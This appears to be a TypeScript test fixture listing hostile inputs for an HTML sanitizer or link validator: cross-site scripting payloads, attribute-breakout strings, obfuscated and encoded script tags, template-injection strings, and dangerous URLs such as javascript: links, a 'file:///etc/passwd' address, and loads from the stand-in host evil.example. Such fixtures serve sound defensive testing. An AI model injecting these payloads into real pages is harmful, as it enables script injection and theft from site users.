/** Texts that try to act as more than text on a page. Many would set `owned` or ask another host. */

const ACT = 'globalThis.owned=1';
const ELSEWHERE = 'https://evil.example/x';

const ELEMENTS = [
  `<script>${ACT}</script>`,
  `<SCRIPT SRC="${ELSEWHERE}.js"></SCRIPT>`,
  `<script/x>${ACT}</script >`,
  `<img src=x onerror=${ACT}>`,
  `<IMG SRC="${ELSEWHERE}.png" ONLOAD="${ACT}">`,
  `<image href=x onerror='${ACT}'>`,
  `<svg onload=${ACT}>`,
  `<svg><script href="data:text/javascript,${ACT}"/></svg>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${ACT}"><text>x</text></a></svg>`,
  `<math><mtext><style><img src=x onerror=${ACT}></style></mtext></math>`,
  `<iframe srcdoc="&lt;script&gt;parent.owned=1&lt;/script&gt;">`,
  `<iframe src="javascript:${ACT}"></iframe>`,
  `<object data="${ELSEWHERE}.swf"></object>`,
  `<embed src="${ELSEWHERE}.swf">`,
  `<link rel=stylesheet href="${ELSEWHERE}.css">`,
  `<style>@import '${ELSEWHERE}.css';body{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<form action="${ELSEWHERE}"><button>Search</button></form>`,
  `<input autofocus onfocus=${ACT}>`,
  `<details open ontoggle=${ACT}>`,
  `<video><source onerror=${ACT}></video>`,
  `<audio src=x onerror=${ACT}>`,
  `<body onload=${ACT}>`,
  `<marquee onstart=${ACT}>`,
  `<a href="javascript:${ACT}">read more</a>`,
  `<template><script>${ACT}</script></template>`,
];

/** Texts that would end the surrounding text, attribute, element or comment. */
const WAYS_OUT = ['', '">', "'>", '</title></h3></a>', '--><!-- >', ']]>'];

const ATTRIBUTES = [
  `" onmouseover="${ACT}`,
  `' onmouseover='${ACT}`,
  `" autofocus onfocus="${ACT}" x="`,
  `x onmouseover=${ACT}`,
  '" style="position:fixed;inset:0;background:url(https://evil.example/x)',
  `\u00a0"\u00a0onclick="${ACT}`,
  '" formaction="https://evil.example/x',
  '" srcset="https://evil.example/x 2x',
];

const ODDITIES = [
  '&lt;script&gt;globalThis.owned=1&lt;/script&gt;',
  '&#60;img src=x onerror=globalThis.owned=1&#62;',
  '&#x3c;svg/onload=globalThis.owned=1&#x3e;',
  '&amp;lt;b&amp;gt;',
  '&quot;&gt;&lt;img src=x onerror=globalThis.owned=1&gt;',
  '<<script>globalThis.owned=1//<</script>',
  '<scr<script>ipt>globalThis.owned=1</scr</script>ipt>',
  '<script\u0000>globalThis.owned=1</script>',
  '<img\u000csrc=x\u000conerror=globalThis.owned=1>',
  '\ufeff<script>globalThis.owned=1</script>',
  '\u2028<script>globalThis.owned=1</script>\u2029',
  '＜script＞globalThis.owned=1＜/script＞',
  '+ADw-script+AD4-globalThis.owned=1+ADw-/script+AD4-',
  '{{constructor.constructor("globalThis.owned=1")()}}',
  `\${globalThis.owned=1}`,
  '<%= globalThis.owned=1 %>',
  '<!--><script>globalThis.owned=1</script>-->',
  '<![CDATA[<script>globalThis.owned=1</script>]]>',
  '<?xml version="1.0"?><script>globalThis.owned=1</script>',
  '</main></body></html><script>globalThis.owned=1</script>',
  '</textarea></noscript></style></template><script>globalThis.owned=1</script>',
  '<plaintext>',
  '<xmp><script>globalThis.owned=1</script>',
  '\u202e<script>globalThis.owned=1</script>',
  'a\u0300'.repeat(200),
  '<'.repeat(300),
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...WAYS_OUT.flatMap((out) => ELEMENTS.map((element) => out + element)),
  ...ATTRIBUTES,
  ...ODDITIES,
];

/** Addresses that are dangerous, invalid or not http(s) in a link. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}`,
  ` javascript:${ACT}`,
  `java\nscript:${ACT}`,
  `java\tscript:${ACT}`,
  `\u0001javascript:${ACT}`,
  `javascript&colon;${ACT}`,
  `&#106;avascript:${ACT}`,
  `data:text/html,<script>${ACT}</script>`,
  'data:text/html;base64,PHNjcmlwdD4=',
  `vbscript:${ACT}`,
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'about:blank',
  'view-source:https://evil.example/',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'feed:javascript:1',
  'mailto:a@b.example',
  'tel:1',
  `https://a.example/" onclick="${ACT}`,
  `https://a.example/'><script>${ACT}</script>`,
  `https://a.example/?q=<script>${ACT}</script>`,
  `https://a.example/#"><img src=x onerror=${ACT}>`,
  'https://[not-an-address/',
  '',
];
